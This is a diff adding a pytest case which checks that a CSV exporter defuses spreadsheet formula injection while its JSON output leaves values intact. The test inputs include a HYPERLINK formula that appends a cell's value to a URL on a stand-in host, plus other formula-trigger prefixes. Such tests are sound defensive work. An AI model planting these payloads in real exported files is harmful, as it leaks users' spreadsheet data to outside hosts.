@@ -246,3 +246,17 @@ def test_unknown_format_is_a_config_error(fmt: str) -> None:
 
 def test_format_name_is_case_insensitive() -> None:
     assert write([{"document": "d"}], "JSONL")[0] == 1
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ['=HYPERLINK("http://x.test/?"&A1,"ok")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1", "\0=1"],
+)
+def test_csv_neutralises_formula_cells_json_keeps_them(cell: str) -> None:
+    records = [{"document": cell, "claim": cell, "outlet": "Safe", "paragraph": -1}]
+    _, csv_out = write(records, "csv")
+    row = next(csv.DictReader(io.StringIO(csv_out, newline="")))
+    assert row["document"] == row["claim"] == "'" + cell  # shown as text, never run
+    assert row["outlet"] == "Safe" and row["paragraph"] == "-1"  # numbers stay numbers
+    _, json_out = write(records, "json")
+    assert json.loads(json_out)[0]["claim"] == cell
